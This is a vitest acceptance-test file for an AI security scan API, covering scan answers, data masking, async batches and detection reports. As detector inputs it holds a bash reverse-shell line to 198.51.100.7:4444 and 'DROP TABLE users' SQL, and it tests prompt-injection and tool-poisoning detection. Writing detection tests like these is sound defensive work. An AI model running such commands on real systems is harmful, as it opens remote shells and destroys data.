/** The scan API's acceptance cases 12 to 24: what answers, results and reports hold. */
import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compile } from '../../src/engine/compile.ts';
import type { Detector } from '../../src/engine/detectors/detector.ts';
import { BAD_URL, BENIGN, CARD, INJECTION, nullsIn } from '../support/scan-texts.ts';
import { type Answer, startTestScanApi, type TestScanApi, TOOLS } from '../support/test-scan-api.ts';
import { makeProfile } from '../unit/engine/profile.ts';

const ASYNC = '/v1/scan/async/request';
const UUID4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const PAN = /^pan_[0-9a-f-]{36}$/;
const TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d{1,9})?Z$/;
const METADATA = { ecosystem: 'mcp', method: 'tools/call', server_name: 'files', tool_invoked: 'read_doc' };
const ALERTING = {
  ...makeProfile({ prompt: { injection: 'alert' }, topics: [] }),
  name: 'alerting',
  id: randomUUID(),
};
const TOPICAL = {
  ...makeProfile({
    prompt: { topic_violation: 'block', source_code: 'off' },
    topics: [
      {
        name: 'competitor prices',
        description: 'Questions about the prices of competitors',
        examples: ['What does the competitor charge for this product?'],
        action: 'block',
      },
    ],
  }),
  name: 'topical',
  id: randomUUID(),
};

let api: TestScanApi;
beforeAll(async () => {
  api = await startTestScanApi({
    policies: [makeProfile(), ALERTING, TOPICAL].map((profile) => compile(profile, TOOLS)),
  });
});
afterAll(() => api.close());

const scan = async (content: object, more: object = {}): Promise<Answer['body']> => {
  const answer = await api.sync({ contents: [content], ...more });
  expect(answer.status).toBe(200);
  return answer.body;
};
const batch = async (...requests: object[]): Promise<Answer['body']> =>
  (await api.ask('POST', ASYNC, { body: requests.map((scan_req, at) => ({ req_id: at, scan_req })) })).body;
const reportOf = async (reportId: string): Promise<Answer['body']> =>
  (await api.ask('GET', `/v1/scan/reports?report_ids=${reportId}`)).body;

describe('the answer', () => {
  it('case 12: ids and the members that are always there, in results too', async () => {
    for (const prompt of [BENIGN, INJECTION]) {
      const sync = await scan({ prompt });
      const [row] = (await api.ask('GET', `/v1/scan/results?scan_ids=${sync.scan_id}`)).body;
      for (const answer of [sync, row.result]) {
        expect(answer.scan_id).toMatch(UUID4);
        expect(answer).toMatchObject({
          report_id: `R${answer.scan_id}`,
          category: expect.any(String),
          action: expect.any(String),
          timeout: false,
          error: false,
          errors: [],
        });
      }
      expect(row.result).toEqual(sync);
    }
  });

  it('case 13: nothing is ever null, and flags are booleans', async () => {
    const contents = [
      { prompt: BENIGN },
      { prompt: `${INJECTION} ${CARD} ${BAD_URL}` },
      { response: `DROP TABLE users; ${CARD}` },
      { tool_event: { metadata: METADATA, output: INJECTION } },
      { prompt: 'hi', response: 'there', code_prompt: 'x', code_response: 'y', tool_event: { output: 'z' } },
    ];
    for (const content of contents) {
      const sync = await scan(content);
      const results = (await api.ask('GET', `/v1/scan/results?scan_ids=${sync.scan_id}`)).body;
      const reports = await reportOf(sync.report_id);
      expect([nullsIn(sync), nullsIn(results), nullsIn(reports)]).toEqual([[], [], []]);
      for (const side of ['prompt_detected', 'response_detected']) {
        expect(Object.values(sync[side]).every((flag) => typeof flag === 'boolean')).toBe(true);
      }
      if (!('tool_event' in content)) expect(sync.tool_detected).toEqual({});
    }
  });

  it('case 14: flags only of enabled detectors, and of those that the side has', async () => {
    const prompt = await scan({ prompt: BENIGN });
    expect(Object.keys(prompt.prompt_detected).toSorted()).toEqual([
      'agent',
      'dlp',
      'injection',
      'malicious_code',
      'toxic_content',
      'url_cats',
    ]);
    expect(prompt.response_detected).toEqual({});
    const response = await scan({ response: BENIGN });
    expect(Object.keys(response.response_detected).toSorted()).toEqual([
      'db_security',
      'dlp',
      'malicious_code',
      'toxic_content',
      'url_cats',
    ]);
    expect(response.prompt_detected).toEqual({});
    const topical = await scan({ prompt: BENIGN }, { ai_profile: { profile_name: 'topical' } });
    expect(topical.prompt_detected).toMatchObject({ topic_violation: false });
  });

  it('case 15: malicious and allow where the action only tells; block where one that fires blocks', async () => {
    const ai_profile = { profile_name: 'alerting' };
    expect(await scan({ prompt: INJECTION }, { ai_profile })).toMatchObject({
      category: 'malicious',
      action: 'allow',
      prompt_detected: { injection: true },
    });
    expect(await scan({ prompt: INJECTION })).toMatchObject({ category: 'malicious', action: 'block' });
    expect(await scan({ prompt: BENIGN })).toMatchObject({ category: 'benign', action: 'allow' });
  });

  it('case 16: masked data has the form of the contract, and stands beside a block too', async () => {
    const text = `\u{1f600} pay ${CARD} today`;
    const masked = await scan({ prompt: text });
    expect(masked.action).toBe('allow');
    const { data, pattern_detections } = masked.prompt_masked_data;
    expect(data).toBe(`\u{1f600} pay ${'X'.repeat(CARD.length)} today`);
    expect([...data]).toHaveLength([...text].length);
    // Code points; the end belongs to the span.
    expect(pattern_detections).toEqual([{ pattern: expect.any(String), locations: [[6, 24]] }]);
    const blocked = await scan({ prompt: `${INJECTION}. ${CARD}` });
    expect([blocked.action, blocked.prompt_masked_data.data]).toEqual([
      'block',
      `${INJECTION}. ${'X'.repeat(CARD.length)}`,
    ]);
    expect(await scan({ prompt: BENIGN })).not.toHaveProperty('prompt_masked_data');
  });

  it('case 17: correlation ids by the live rules, in answers, results and reports', async () => {
    const rows: readonly [object, object][] = [
      [{}, { transaction_id: expect.stringMatching(PAN), session_id: expect.stringMatching(PAN) }],
      [{ tr_id: 't' }, { transaction_id: expect.stringMatching(PAN), session_id: 't' }],
      [{ session_id: 's' }, { transaction_id: expect.stringMatching(PAN), session_id: 's' }],
      [{ transaction_id: 'x' }, { transaction_id: 'x', session_id: expect.stringMatching(PAN) }],
      [
        { tr_id: 't', session_id: 's' },
        { transaction_id: expect.stringMatching(PAN), session_id: 's' },
      ],
      [
        { tr_id: 't', transaction_id: 'x' },
        { transaction_id: 'x', session_id: 't' },
      ],
      [
        { session_id: 's', transaction_id: 'x' },
        { transaction_id: 'x', session_id: 's' },
      ],
      [
        { tr_id: 't', session_id: 's', transaction_id: 'x' },
        { transaction_id: 'x', session_id: 's' },
      ],
    ];
    for (const [ids, expected] of rows) {
      const answer = await scan({ prompt: BENIGN }, ids);
      const { transaction_id, session_id, tr_id } = answer;
      expect(answer).toMatchObject(expected);
      expect(tr_id).toBe(session_id);
      const [row] = (await api.ask('GET', `/v1/scan/results?scan_ids=${answer.scan_id}`)).body;
      expect(row.result).toMatchObject({ transaction_id, session_id, tr_id });
      expect((await reportOf(answer.report_id))[0]).toMatchObject({ transaction_id, session_id });
      expect((await reportOf(answer.report_id))[0]).not.toHaveProperty('tr_id');
    }
  });

  it('case 18: times are RFC 3339 in UTC', async () => {
    const sync = await scan({ prompt: BENIGN });
    const receipt = await batch({ contents: [{ prompt: BENIGN }] });
    const [row] = await api.complete(receipt.scan_id);
    for (const time of [sync.created_at, sync.completed_at, receipt.received, row.result.completed_at]) {
      expect(time).toMatch(TIME);
    }
  });

  it('case 19: tool events show their summary, and masked data in both places', async () => {
    const poisoned = await scan({ tool_event: { metadata: METADATA, output: INJECTION } });
    expect(poisoned).toMatchObject({ action: 'block', category: 'malicious' });
    expect(Object.keys(poisoned.tool_detected).toSorted()).toEqual([
      'metadata',
      'output_detected',
      'summary',
      'verdict',
    ]);
    expect(poisoned.tool_detected).toMatchObject({
      verdict: 'malicious',
      metadata: METADATA,
      summary: { detections: { injection: true }, threats: ['context poisoning'] },
      output_detected: { detection_entries: [{ tool_invoked: 'read_doc', detections: { injection: true } }] },
    });
    const leaking = await scan({ tool_event: { metadata: METADATA, input: `{"card":"${CARD}"}` } });
    const data = `{"card":"${'X'.repeat(CARD.length)}"}`;
    expect(leaking.prompt_masked_data.data).toBe(data);
    expect(leaking.tool_detected.input_detected.detection_entries[0].masked_data.data).toBe(data);
  });

  it('case 20: a failing detector is told in the words of the contract, and blocks', async () => {
    const find = (): never => {
      throw new Error('broken');
    };
    const broken: Detector = {
      flag: 'source_code',
      surfaces: ['prompt', 'response'],
      prepare: () => ({ find, openFrom: () => 0 }),
    };
    const profile = makeProfile({ prompt: { source_code: 'alert' } });
    const failing = await startTestScanApi({
      policies: [compile(profile, TOOLS, { detectors: [broken] })],
    });
    const { body } = await failing.sync({ contents: [{ prompt: BENIGN }] });
    expect(body).toMatchObject({ action: 'block', category: 'error', error: true, timeout: false });
    expect(body.errors).toEqual([{ content_type: 'prompt', feature: 'malicious_code', status: 'error' }]);
    await failing.close();
  });

  it('case 20: a scan service that fails as a whole blocks, and is no 5xx', async () => {
    const profile = makeProfile();
    const policy = compile(profile, TOOLS);
    const failing = await startTestScanApi({
      policies: [{ ...policy, scan: () => Promise.reject(new Error('broken')) }],
    });
    const { status, body } = await failing.sync({ contents: [{ prompt: BENIGN, response: BENIGN }] });
    expect([status, body.action, body.category, body.error]).toEqual([200, 'block', 'error', true]);
    expect(body.errors).toContainEqual({ content_type: 'response', feature: 'db_security', status: 'error' });
    const receipt = (
      await failing.ask('POST', ASYNC, {
        body: [{ req_id: 7, scan_req: { contents: [{ prompt: BENIGN }] } }],
      })
    ).body;
    expect(await failing.complete(receipt.scan_id)).toMatchObject([
      { req_id: 7, result: { action: 'block', error: true } },
    ]);
    await failing.close();
  });
});

describe('asynchronous scans, results and reports', () => {
  it('case 21: a batch of 25, every row complete under one scan id', async () => {
    const requests = Array.from({ length: 25 }, (_, at) => ({
      req_id: 1_000 + at,
      scan_req: { contents: [{ prompt: at === 7 ? INJECTION : BENIGN }], transaction_id: `call-${at}` },
    }));
    const receipt = await api.ask('POST', ASYNC, { body: requests });
    expect(receipt.status).toBe(200);
    expect(receipt.body).toEqual({
      source: 'AI-Runtime-API',
      received: expect.stringMatching(TIME),
      scan_id: expect.stringMatching(UUID4),
      report_id: `R${receipt.body.scan_id}`,
    });
    const rows = await api.complete(receipt.body.scan_id);
    expect(rows.map((row) => row.req_id)).toEqual(requests.map(({ req_id }) => req_id));
    for (const row of rows) {
      expect(Object.keys(row).toSorted()).toEqual(['req_id', 'result', 'scan_id', 'source', 'status']);
      expect(row.result).toMatchObject({
        scan_id: receipt.body.scan_id,
        report_id: receipt.body.report_id,
        transaction_id: `call-${row.req_id - 1_000}`,
        action: row.req_id === 1_007 ? 'block' : 'allow',
      });
    }
    expect(await reportOf(receipt.body.report_id)).toHaveLength(25);
  });

  it('case 21: what is no batch is a 400 at once', async () => {
    const entry = (changes: object = {}): object => ({
      req_id: 1,
      scan_req: { contents: [{ prompt: BENIGN }] },
      ...changes,
    });
    for (const body of [
      [],
      Array.from({ length: 26 }, (_, req_id) => entry({ req_id })),
      [entry(), entry()],
      [entry({ req_id: -1 })],
      [entry({ req_id: 1.5 })],
      [entry({ req_id: '1' })],
      [entry({ req_id: 4_294_967_296 })],
      [entry({ scan_req: undefined })],
      [entry({ scan_req: { contents: [{}] } })],
      [
        entry(),
        entry({ req_id: 2, scan_req: { contents: [{ prompt: 'a' }], ai_profile: { profile_name: 'no' } } }),
      ],
      [[entry()]],
      [null],
      {},
    ]) {
      const { status } = await api.ask('POST', ASYNC, { body });
      expect([body, status]).toEqual([body, 400]);
    }
  });

  it('case 21: a pending row has no result', async () => {
    const policy = compile(makeProfile(), TOOLS);
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const slow = await startTestScanApi({
      policies: [{ ...policy, scan: (...args) => held.then(() => policy.scan(...args)) }],
    });
    const { body } = await slow.ask('POST', ASYNC, {
      body: [{ req_id: 3, scan_req: { contents: [{ prompt: BENIGN }] } }],
    });
    const rows = (await slow.ask('GET', `/v1/scan/results?scan_ids=${body.scan_id}`)).body;
    expect(rows).toEqual([{ source: 'AI-Runtime-API', req_id: 3, scan_id: body.scan_id, status: 'pending' }]);
    expect((await slow.ask('GET', `/v1/scan/reports?report_ids=${body.report_id}`)).body).toEqual([]);
    release();
    expect(await slow.complete(body.scan_id)).toMatchObject([
      { status: 'complete', result: { action: 'allow' } },
    ]);
    await slow.close();
  });

  it('case 22: ids by comma, escaped or not, and what is none', async () => {
    const ids = [randomUUID(), randomUUID(), randomUUID(), randomUUID(), randomUUID()];
    const scans = await Promise.all([scan({ prompt: BENIGN }), scan({ prompt: BENIGN })]);
    const known = scans.map((answer) => answer.scan_id);
    const get = (path: string): Promise<Answer> => api.ask('GET', `/v1/scan/${path}`);
    const found = async (path: string): Promise<unknown[]> =>
      (await get(path)).body.map((row: { scan_id: string }) => row.scan_id).toSorted();
    expect(await found(`results?scan_ids=${known.join(',')}`)).toEqual(known.toSorted());
    expect(await found(`results?scan_ids=${known.join('%2C')}`)).toEqual(known.toSorted());
    expect(await found(`results?scan_ids=${known[0]},${known[0]}`)).toEqual([known[0]]);
    expect(await found(`reports?report_ids=R${known[0]}%2CR${known[1]}`)).toEqual(known.toSorted());
    expect(await get(`results?scan_ids=${ids.join(',')}`)).toMatchObject({ status: 200, body: [] });
    for (const path of [
      'results',
      'results?scan_ids=',
      'results?scan_ids=,',
      `results?scan_ids=${[...ids, randomUUID()].join(',')}`,
      'results?scan_ids=nonsense',
      `results?scan_ids=R${ids[0]}`,
      `results?report_ids=R${ids[0]}`,
      `reports?report_ids=${ids[0]}`,
      `reports?report_ids=R${ids[0]}x`,
      `results?scan_ids=${'a'.repeat(3_000)}`,
    ]) {
      expect([path, (await get(path)).status]).toEqual([path, 400]);
    }
  });

  it('case 23: synchronous scans are found under both ids, by their key alone', async () => {
    const other = randomBytes(16).toString('hex');
    const shared = await startTestScanApi({
      keys: [
        { name: 'one', id: 'one', key: api.key, profile: 'default' },
        { name: 'two', id: 'two', key: other, profile: 'default' },
      ],
    });
    const headers = { 'x-pan-token': api.key };
    const { body: answer } = await shared.sync({ contents: [{ prompt: INJECTION }] }, headers);
    const get = async (path: string, key: string): Promise<unknown> =>
      (await shared.ask('GET', `/v1/scan/${path}`, { headers: { 'x-pan-token': key } })).body;
    const results = `results?scan_ids=${answer.scan_id}`;
    const reports = `reports?report_ids=${answer.report_id}`;
    expect(await get(results, api.key)).toMatchObject([{ req_id: 0, status: 'complete', result: answer }]);
    expect(await get(reports, api.key)).toMatchObject([{ req_id: 0, scan_id: answer.scan_id }]);
    expect([await get(results, other), await get(reports, other)]).toEqual([[], []]);
    await shared.close();
  });

  it('case 24: a report has a row for each side and detector, with its details', async () => {
    const answer = await scan({
      prompt: `${INJECTION}. \u{1f600} ${CARD} ${BAD_URL}`,
      response: 'Run: DROP TABLE users; SELECT * FROM orders;',
    });
    const [report] = await reportOf(answer.report_id);
    expect(report).toMatchObject({ source: 'AI-Runtime-API', report_id: answer.report_id, req_id: 0 });
    const rows: Record<string, Answer['body']> = Object.fromEntries(
      report.detection_results.map((row: { data_type: string; detection_service: string }) => [
        `${row.data_type} ${row.detection_service}`,
        row,
      ]),
    );
    expect(Object.keys(rows).toSorted()).toEqual([
      'prompt agent_security',
      'prompt dlp',
      'prompt malicious_code',
      'prompt pi',
      'prompt tc',
      'prompt uf',
      'response dbs',
      'response dlp',
      'response malicious_code',
      'response tc',
      'response uf',
    ]);
    expect(rows['prompt pi']).toMatchObject({
      verdict: 'malicious',
      action: 'block',
      result_detail: { pi_report: { verdict: 'malicious' } },
    });
    const { dlp_report } = rows['prompt dlp'].result_detail;
    const start = INJECTION.length + 4;
    expect(dlp_report).toMatchObject({
      dlp_report_id: expect.stringMatching(/^[0-9A-F]{64}$/),
      dlp_profile_version: 1,
      data_pattern_rule1_verdict: 'MATCHED',
      data_pattern_detection_offsets: [
        {
          version: 1,
          name: answer.prompt_masked_data.pattern_detections[0].pattern,
          high_confidence_detections: [[start, start + CARD.length - 1]],
          medium_confidence_detections: [],
          low_confidence_detections: [],
        },
      ],
    });
    expect(rows['prompt dlp'].action).toBe('allow');
    expect(rows['prompt uf']).toMatchObject({
      verdict: 'malicious',
      result_detail: { urlf_report: [{ url: BAD_URL, risk_level: 'high', action: 'block' }] },
    });
    expect(rows['response dbs'].result_detail.dbs_report).toContainEqual({
      sub_type: 'database-security-delete',
      verdict: 'malicious',
      action: 'allow',
    });
    expect(rows['response dlp'].result_detail.dlp_report).toMatchObject({
      data_pattern_rule1_verdict: 'NOT_MATCHED',
      data_pattern_detection_offsets: [],
    });
    expect(rows['prompt tc']).toMatchObject({
      verdict: 'benign',
      action: 'allow',
      result_detail: { tc_report: { confidence: '', verdict: 'benign', toxic_categories: [] } },
    });
    expect(JSON.stringify(report)).not.toContain('4111');
  });

  it('case 24: the language of malicious code, and why an answer is ungrounded', async () => {
    const profile = makeProfile({ response: { ungrounded: 'alert', source_code: 'alert' } });
    const grounded = await startTestScanApi({ policies: [compile(profile, TOOLS)] });
    const { body } = await grounded.sync({
      contents: [
        {
          prompt: 'How long is the river?',
          context: 'The river Elbe is 1094 kilometres long and ends in the North Sea near Cuxhaven.',
          response: 'The river Elbe is 2850 kilometres long and ends near Cuxhaven.',
          code_response: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
        },
      ],
    });
    expect(body.response_detected).toMatchObject({ ungrounded: true, malicious_code: true });
    const [report] = (await grounded.ask('GET', `/v1/scan/reports?report_ids=${body.report_id}`)).body;
    const rows = report.detection_results.filter((row: Answer['body']) => row.data_type === 'response');
    const detailOf = (service: string): Answer['body'] =>
      rows.find((row: Answer['body']) => row.detection_service === service).result_detail;
    expect(detailOf('malicious_code').mc_report).toMatchObject({
      verdict: 'malicious',
      code_analysis_by_type: expect.arrayContaining([expect.objectContaining({ file_type: 'Shell' })]),
      malware_script_report: { verdict: 'malicious' },
      command_injection_report: [],
    });
    expect(detailOf('contextual_grounding').cg_report).toEqual({
      status: 'completed',
      category: 'ungrounded',
      explanation: 'unsupported-number',
    });
    await grounded.close();
  });

  it('case 24: tool events and topics in reports', async () => {
    const tool = await scan({ tool_event: { metadata: METADATA, input: BENIGN, output: INJECTION } });
    const [report] = await reportOf(tool.report_id);
    const directions = report.detection_results.map((row: Answer['body']) => row.metadata.direction);
    expect(new Set(directions)).toEqual(new Set(['input', 'output']));
    expect(report.detection_results).toContainEqual({
      data_type: 'tool_event',
      detection_service: 'pi',
      verdict: 'malicious',
      action: 'block',
      metadata: { ...METADATA, direction: 'output' },
      result_detail: { pi_report: { verdict: 'malicious' } },
    });
    const prompt = 'What does the competitor charge for this product?';
    const topical = await scan({ prompt }, { ai_profile: { profile_name: 'topical' } });
    expect(topical.prompt_detection_details.topic_guardrails_details.blocked_topics).toEqual([
      'competitor prices',
    ]);
    const [topics] = await reportOf(topical.report_id);
    const row = topics.detection_results.find(
      (entry: Answer['body']) => entry.detection_service === 'topic_guardrails',
    );
    expect(row.result_detail.topic_guardrails_report).toEqual({
      allowed_topic_list: expect.any(String),
      blocked_topic_list: 'MATCHED',
      allowedTopics: [],
      blockedTopics: ['competitor prices'],
    });
  });
});
